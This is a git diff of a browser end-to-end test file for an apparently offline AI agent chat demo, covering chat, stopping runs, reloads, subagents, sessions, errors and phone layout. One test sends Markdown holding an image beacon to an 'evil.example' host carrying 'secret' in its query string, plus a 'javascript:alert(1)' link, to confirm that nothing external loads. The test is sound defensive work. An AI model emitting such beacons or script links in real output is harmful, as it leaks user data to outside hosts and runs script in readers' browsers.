@@ -1,25 +1,13 @@
-import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
-import { type DemoServer, startDemo } from './demo-server.ts';
-import { closeBrowser, visit, type Visitor } from './visitor.ts';
+import { describe, expect, it, vi } from 'vitest';
+import { demoJourneys } from './demo-journeys.ts';
+import type { Visitor } from './visitor.ts';
 
-let server: DemoServer;
+const demo = demoJourneys({ VITRINE_DEMO_PACE_MS: '12' });
 let visitor: Visitor;
-
-beforeAll(async () => {
-  server = await startDemo({ VITRINE_DEMO_PACE_MS: '12' });
-}, 60_000);
-afterAll(async () => {
-  await closeBrowser();
-  server.stop();
-});
-afterEach(async () => {
-  expect(visitor.complaints).toEqual([]);
-  await visitor.context.close();
-});
 
 describe('a person without any key', () => {
   it('chats, and sees the tool call in the chat and in the panel', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await page.getByText('Offline demo model', { exact: true }).waitFor();
     await say('What is 12 * (3 + 4)?');
@@ -45,23 +33,25 @@ describe('a person without any key', () => {
   });
 
   it('stops a running answer, keeps its part, and sees why', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await say('Write a long answer');
     await conversation.getByText('An agent is a loop').first().waitFor();
     await page.getByRole('button', { name: 'Stop' }).click();
     await conversation.getByText('Stopped by you').waitFor();
     await conversation.getByText('This answer broke off.').waitFor();
+    await conversation.locator('.markdown').first().waitFor();
     const kept = await conversation.innerText();
     await page.getByRole('tab', { name: 'Stop' }).click();
     await page.getByText(/It was stopped after 1 step because a person asked for it/).waitFor();
     await page.reload();
     await conversation.getByText('This answer broke off.').waitFor();
+    await conversation.locator('.markdown').first().waitFor();
     expect((await conversation.innerText()).slice(0, 200)).toBe(kept.slice(0, 200));
   });
 
   it('reloads, finds the session again, and goes on with its notes', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await say('Remember that the demo is on Friday');
     await conversation.getByText('Noted. There is 1 note now.').waitFor();
@@ -73,7 +63,7 @@ describe('a person without any key', () => {
   });
 
   it('takes up a run that a reload interrupted', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await say('Write a long answer');
     await conversation.getByText('An agent is a loop').first().waitFor();
@@ -86,7 +76,7 @@ describe('a person without any key', () => {
   });
 
   it('delegates to a subagent, whose steps the panel keeps', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await say('Please research 2 + 3');
     await conversation.getByText('researcher', { exact: true }).first().waitFor();
@@ -98,7 +88,7 @@ describe('a person without any key', () => {
   });
 
   it('keeps several sessions, renames and deletes them', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     const list = page.getByRole('navigation', { name: 'Sessions' });
     await say('What is 1 + 1?');
@@ -122,7 +112,7 @@ describe('a person without any key', () => {
   });
 
   it('is told about an error and retries', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await say('Please simulate an error');
     const alert = page.getByRole('alert');
@@ -133,7 +123,7 @@ describe('a person without any key', () => {
   });
 
   it('loads nothing from elsewhere, whatever the Markdown says', async () => {
-    visitor = await visit(server.url);
+    visitor = await demo.visit();
     const { page, conversation, say } = visitor;
     await say(
       '![beacon](https://evil.example/?q=secret) <img src="https://evil.example/2"> [x](javascript:alert(1))',
@@ -145,8 +135,11 @@ describe('a person without any key', () => {
   });
 
   it('finds everything on a phone', async () => {
-    visitor = await visit(server.url, { viewport: { width: 390, height: 844 } });
+    visitor = await demo.visit({ viewport: { width: 390, height: 844 } });
     const { page, conversation, say } = visitor;
+    const heading = page.getByText('What would you like to see?');
+    await page.waitForTimeout(300);
+    expect((await heading.boundingBox())?.y).toBeGreaterThan(52);
     await say('What is 3 + 3?');
     await conversation.getByText('The result is 6.').waitFor();
     await say('Show me some markdown');
